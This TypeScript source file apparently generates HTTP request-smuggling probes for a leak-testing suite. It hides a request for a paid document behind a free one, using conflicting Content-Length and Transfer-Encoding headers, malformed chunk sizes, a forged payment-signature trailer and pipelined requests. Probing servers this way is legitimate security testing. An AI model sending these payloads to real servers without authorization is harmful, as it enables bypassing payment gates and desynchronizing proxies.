import {rawRequest} from '../leak-table.ts';
import type {Leak, Target} from '../leak-table.ts';

/** Requests that are hidden inside or after others, because two servers in a row may disagree about the end of a request. */
export function pairs({host, path, free}: Target): Leak[] {
  const hidden = rawRequest(`GET ${path} HTTP/1.1`, [`Host: ${host}`]);
  const chunk = `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;
  const length = `Content-Length: ${hidden.length}`;
  const chunked = 'Transfer-Encoding: chunked';
  const bodies: [string, string[], string][] = [
    ['a body of known length', [length], hidden],
    ['a chunked body', [chunked], chunk],
    ['length then chunked', [length, chunked], `0\r\n\r\n${hidden}`],
    ['chunked then length', [chunked, 'Content-Length: 4'], `0\r\n\r\n${hidden}`],
    ['length 0 and a body', ['Content-Length: 0'], hidden],
    ['a length too short', ['Content-Length: 4'], hidden],
    ['two lengths', ['Content-Length: 0', length], hidden],
    ['two lengths in one', [`Content-Length: 0, ${hidden.length}`], hidden],
    ['a signed length', [`Content-Length: +${hidden.length}`], hidden],
    ['a negative length', ['Content-Length: -1'], hidden],
    ['a hexadecimal length', ['Content-Length: 0x0'], hidden],
    ['an odd spelling of chunked', ['Transfer-Encoding: xchunked', length], hidden],
    ['chunked behind a tab', ['Transfer-Encoding:\tchunked', 'Content-Length: 4'], `0\r\n\r\n${hidden}`],
    ['chunked, identity', ['Transfer-Encoding: chunked, identity', length], hidden],
    ['two encodings', [chunked, 'Transfer-Encoding: identity', length], `0\r\n\r\n${hidden}`],
    ['a folded encoding', ['Transfer-Encoding:\r\n chunked', length], `0\r\n\r\n${hidden}`],
    ['a chunk extension', [chunked], `0;x="\r\n\r\n${hidden}"\r\n\r\n`],
    ['an endless chunk size', [chunked], `${'f'.repeat(40)}\r\n${hidden}`],
    ['a negative chunk size', [chunked], `-1\r\n${hidden}`],
    ['a trailer', [chunked], `0\r\nPAYMENT-SIGNATURE: e30=\r\n\r\n${hidden}`],
  ];
  const methods = ['GET', 'POST'];
  return [
    ...methods.flatMap(method =>
      bodies.map(([name, headers, body]) => ({
        name: `${method} of a free document with ${name}, and a paid one behind`,
        malformed: true,
        request: `${[`${method} ${free} HTTP/1.1`, `Host: ${host}`, ...headers, '', ''].join('\r\n')}${body}`,
      })),
    ),
    ...pipelines({path, free}).map(([name, lines]) => ({
      name: `pipelined: ${name}`,
      request: [...lines.map(line => `${line} HTTP/1.1\r\nHost: ${host}\r\n\r\n`), hidden].join(''),
    })),
  ];
}

function pipelines({path, free}: {path: string; free: string}): [string, string[]][] {
  return [
    ['a free and a paid document', [`GET ${free}`]],
    ['a paid document twice', [`GET ${path}`]],
    ['a paid document 20 times', Array.from({length: 20}, () => `GET ${path}`)],
    ['HEAD and GET', [`HEAD ${path}`]],
    ['OPTIONS and GET', [`OPTIONS ${path}`]],
    ['paid, free, paid', [`GET ${path}`, `GET ${free}`]],
    ['HEAD of a free document, GET of a paid one', [`HEAD ${free}`]],
  ];
}
